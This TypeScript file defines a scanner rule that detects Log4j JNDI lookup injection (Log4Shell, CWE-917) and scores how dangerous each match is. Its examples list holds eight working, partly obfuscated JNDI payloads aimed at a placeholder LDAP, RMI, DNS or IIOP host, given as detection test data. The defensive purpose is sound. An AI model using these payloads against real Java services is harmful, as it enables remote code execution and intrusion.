import { isWord } from '../../text/char-class.ts';
import { lookupGrammar } from '../../tokenise/lookup.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `${jndi:ldap://…}` and all that Log4j makes into it. */
export const lookup: ValueRule = {
  id: 'jndi.lookup',
  category: 'jndi',
  cwe: 'CWE-917',
  severity: 'critical',
  score: 95,
  message: 'is a JNDI look-up once a logger has resolved what is nested in it',
  trigger: { literals: [['${'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
  judge: (subject) => {
    let best: Match | undefined;
    const reading = subject.tokens(lookupGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    for (const one of reading.lookups) {
      const at = one.resolved.indexOf('jndi:');
      if (at < 0) continue;
      // The prefix of the look-up, or of one nested in it.
      const target = one.resolved.slice(at + 5).trimStart();
      const isStart = at === 0 || !isWord(one.resolved.charCodeAt(at - 1));
      const score = !isStart
        ? 50
        : ellipsis.test(target)
          ? 45
          : protocol.test(target)
            ? 97
            : one.inner > 0 || target !== ''
              ? 90
              : 60;
      if (score > (best?.score ?? 0)) best = { start: one.start, end: one.end, score };
    }
    return best;
  },
  examples: [
    '${jndi:ldap://203.0.113.5/a}',
    'Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}',
    '${${env:X:-j}ndi${env:X:-:}${env:X:-d}ns://203.0.113.5}',
    '${jnd${upper:\u0131}:ldap://203.0.113.5/a}',
    "${${date:'j'}ndi:iiop://203.0.113.5/a}",
    '${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}',
    '${jndi:ldap://203.0.113.5/a',
  ],
  lookalikes: [
    '${name} has ${count} messages',
    'echo ${HOME:-/root} ${LANG:-C}',
    '${user.name:-guest}',
    'A JNDI look-up begins with jndi: and a URL.',
    'What is ${jndi:ldap://...} in my logs? Am I hacked?',
    'The hole was about ${jndi:...} look-ups; please upgrade.',
    '`${date:YYYY}-${lower:x}`',
  ],
};

/** Where somebody speaks of look-ups, no host is named. */
const ellipsis = /^(?:[a-z]{3,6}:(?:\/\/)?)?(?:\.{3}|…)$/;
const protocol =
  /^(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|java|com\.sun|local|ejb|jms|[a-z]{2,10}:)/;
